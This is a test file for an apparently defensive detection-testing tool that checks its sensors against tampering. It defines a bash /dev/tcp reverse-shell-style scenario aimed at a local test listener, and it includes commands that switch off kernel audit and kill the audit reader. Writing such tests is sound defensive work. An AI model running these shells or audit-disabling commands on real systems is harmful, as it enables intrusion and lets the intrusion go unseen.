// biome-ignore-all lint/suspicious/noTemplateCurlyInString: names in scenarios are written like this
import { execFile } from 'node:child_process'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { connect, createServer, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import t, { type Test } from 'tap'
import { readRecord } from '../../harness/evidence/read.ts'
import type { RecordedTrial } from '../../harness/evidence/record.ts'
import { type AuditState, readAuditState } from '../../harness/sensors/endpoint/audit-state.ts'
import { Tocsin, tocsin } from '../cli/tocsin.ts'
import { audit } from './audit-lock.ts'
import { newSession, realEngine } from './sandbox-rig.ts'

const run = promisify(execFile)
const docker = async (...args: string[]) => (await run('docker', args)).stdout.trim()

const { engine, images } = await realEngine()
const image = images.endpoint
const lock = audit('alone')
t.teardown(() => lock[Symbol.dispose]())
const auditNow = async () => {
  const { lost: _lost, ...others } = (await readAuditState({ engine, session: newSession(), image })) as AuditState
  return others
}
const before = await auditNow()

/** A shell that connects after two seconds, and one that does nothing for five: time enough to take something away meanwhile. */
async function slowLibrary(folder: string): Promise<string> {
  await mkdir(join(folder, 'rogue-process'), { recursive: true })
  const shell = (script: string) =>
    `{ run: { program: /usr/bin/bash, arguments: ['-c', "${script}"] }, listener: { protocol: tcp, port: 4444 } }`
  await writeFile(
    join(folder, 'rogue-process', 'slow-shell.yaml'),
    `id: slow-shell
title: Shell that connects after two seconds
clause: rogue-process
description: Takes its time, so that something can go wrong meanwhile.
attack: { basis: author }
stimulus:
  generator: process
  with: ${shell('sleep 2; exec 3<>/dev/tcp/${server.ipv4}/4444; echo ${marker} >&3; read -r -u 3 line')}
control:
  generator: process
  with: { run: { program: /usr/bin/bash, arguments: ['-c', 'read -r line; sleep 5'], stdin: { input: "go\\n" } } }
expect:
  alert: [{ layer: process-network, rules: { tocsin: [7d8f0a1e-3c52-4f7b-9a60-0c1b5e7d9002] } }]
  telemetry: [process, process-network]
`,
  )
  return folder
}

const verdictOf = (trials: readonly RecordedTrial[], id: string, kind: string) => {
  const found = trials.find((trial) => trial.scenario === id && trial.kind === kind)
  return { verdict: found?.verdict, reason: found?.reason, met: found?.met }
}

/** Plays the slow library, does something to it when it is under way, and returns what became of it. */
async function disturbed(t: Test, disturb: (campaign: Tocsin) => Promise<void>) {
  const library = await slowLibrary(t.testdir())
  const out = join(t.testdirName, 'run')
  const campaign = new Tocsin(['run', '--scenarios', library, '--out', out, '--format', 'csv'])
  await campaign.until(/sentinel\/1/)
  await disturb(campaign)
  const { code, stderr } = await campaign.ended
  return { ...(await readRecord(out)), code, stderr }
}

t.test('the audit switched off for a while in a campaign: nobody is blamed for what it did not tell', async (t) => {
  const tamper = (script: string) =>
    docker(
      'run',
      '--rm',
      '--network',
      'none',
      '--pid',
      'host',
      '--cap-add',
      'AUDIT_CONTROL',
      image.name,
      'sh',
      '-c',
      script,
    )
  const {
    run: record,
    trials,
    code,
    stderr,
  } = await disturbed(t, () => tamper('auditctl -e 0; sleep 3; auditctl -e 1').then(() => undefined))
  t.equal(code, 3, stderr)
  t.match(record.problems.join(), /somebody switched the kernel's audit off/)
  t.match(verdictOf(trials, 'slow-shell', 'stimulus'), {
    verdict: 'inconclusive',
    met: null,
    reason: /may not have been listening: somebody switched the kernel's audit off/,
  })
  t.match(
    verdictOf(trials, 'slow-shell', 'control'),
    { verdict: 'inconclusive', met: null },
    'nor is silence a success',
  )
  t.same(await auditNow(), before, 'the audit is as it was')
})

t.test('the reader of the audit killed in a campaign: the same, and its rules are taken away', async (t) => {
  const killed = async ({ child }: Tocsin) => {
    const format = '{{.ID}} {{.Label "tocsin.owner"}}'
    const sensors = await docker('ps', '--filter', 'label=tocsin.role=endpoint', '--format', format)
    const [own = ''] = sensors.split('\n').filter((line) => line.includes(`"pid":${child.pid},`))
    await docker('exec', own.split(' ')[0] ?? '', 'sh', '-c', "kill -KILL $(auditctl -s | sed -n 's/^pid //p')")
  }
  const { run: record, trials, code, stderr } = await disturbed(t, killed)
  t.equal(code, 3, stderr)
  t.match(record.problems.join(), /the audit reader ended/)
  for (const kind of ['stimulus', 'control'])
    t.match(verdictOf(trials, 'slow-shell', kind), { verdict: 'inconclusive', met: null }, kind)
  t.same(await auditNow(), before, 'the audit is as it was')
})

t.test('an engine that gives no audit: not applicable, and said, never a success', async (t) => {
  const host = await engineWithout(t, '"AUDIT_CONTROL"')
  const out = join(t.testdir(), 'run')
  const ids = 'bash-dev-tcp,tcp-null-scan'
  const { code, stderr } = await tocsin(['run', '--only', ids, '--out', out, '--format', 'csv'], { env: host })
  t.equal(code, 0, stderr)
  const { run: record, trials } = await readRecord(out)
  t.match(record.problems, [/no sensor watches processes: .*does not let a container read its audit/])
  t.same(
    record.monitors.map(({ name }) => name),
    ['embedded-suricata'],
  )
  for (const kind of ['stimulus', 'control'])
    t.match(verdictOf(trials, 'bash-dev-tcp', kind), { verdict: 'not-applicable', met: null }, kind)
  t.match(verdictOf(trials, 'tcp-null-scan', 'stimulus'), { met: true }, 'packets are judged as ever')
  t.match(record.summary, { scenarios: 2, detected: 1, notApplicable: 1 })
  const doctor = await tocsin(['doctor'], { env: host })
  t.match(doctor.stdout, /audit of the kernel .*does not let a container read its audit: .*not applicable here/)
})

t.test('an engine that takes no BPF programs: the audit goes on alone, and that is said', async (t) => {
  const host = await engineWithout(t, '"SYS_ADMIN","IPC_LOCK"')
  const out = join(t.testdir(), 'run')
  const ids = 'bash-dev-tcp,preload-curl'
  const { code, stderr } = await tocsin(['run', '--only', ids, '--out', out, '--format', 'csv'], { env: host })
  t.equal(code, 1, stderr)
  const { run: record, trials } = await readRecord(out)
  t.match(record.problems, [/no bpftrace beside the audit: .*io_uring are not told/])
  t.same(
    record.monitors.map(({ name }) => name),
    ['embedded-suricata', 'embedded-audit'],
  )
  t.match(verdictOf(trials, 'bash-dev-tcp', 'stimulus'), { verdict: 'detected', met: true })
  t.match(
    verdictOf(trials, 'preload-curl', 'stimulus'),
    { verdict: 'logged', met: false },
    'the environment is a gap then',
  )
  const doctor = await tocsin(['doctor'], { env: host })
  t.match(doctor.stdout, /BPF in the kernel .*: the audit alone tells of processes/)
  t.same(await auditNow(), before, 'the audit is as it was')
})

/**
 * A way to the real engine on which capabilities are asked for in vain: the request is changed to name another one that does
 * not help.
 * @param asked as they stand in the request, quotation marks and all
 */
async function engineWithout(t: Test, asked: string): Promise<Record<string, string>> {
  const given = '"KILL"'.padEnd(asked.length)
  // The path of a socket may have 107 bytes only, too few for a folder of the test's.
  const folder = await mkdtemp(join(tmpdir(), 'tocsin-'))
  const sockets = new Set<Socket>()
  const server = createServer({ allowHalfOpen: true }, (near) => {
    const far = connect({ path: '/var/run/docker.sock', allowHalfOpen: true })
    for (const socket of [near, far]) {
      sockets.add(socket)
      socket.on('error', () => {})
      socket.on('close', () => sockets.delete(socket))
    }
    near.on('data', (bytes) => {
      const text = bytes.toString('latin1')
      far.write(text.includes(asked) ? Buffer.from(text.replaceAll(asked, given), 'latin1') : bytes)
    })
    near.on('end', () => far.end())
    far.pipe(near)
  })
  await new Promise<void>((resolve) => server.listen(join(folder, 'engine.sock'), resolve))
  t.teardown(async () => {
    server.close()
    for (const socket of sockets) socket.destroy()
    await rm(folder, { recursive: true })
  })
  return { DOCKER_HOST: `unix://${join(folder, 'engine.sock')}` }
}
